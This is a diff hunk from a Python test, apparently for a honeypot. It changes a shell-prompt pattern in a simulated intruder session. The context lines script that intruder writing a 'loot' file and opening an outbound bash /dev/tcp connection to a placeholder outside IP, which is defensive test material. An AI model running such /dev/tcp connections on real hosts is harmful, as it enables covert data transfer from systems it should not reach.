@@ -91,7 +91,8 @@ def test_an_intruders_session_is_one_timeline_and_recycle_keeps_it_and_drops_the
 
     s = intruder.session(2022)
     try:
-        s.expect(rb"admin@pot:~\$ ", 120)
+        # the baremetal persona names the host (e.g. muc-web01), not "pot"
+        s.expect(rb"admin@[a-z0-9-]+:~\$ ", 120)
         s.send("echo secret-$((6*7)) > /tmp/loot.txt\n")
         s.expect(rb"\$ ", 30)
         s.send("cat < /dev/tcp/" + OUTSIDE_IP + "/7777\n")
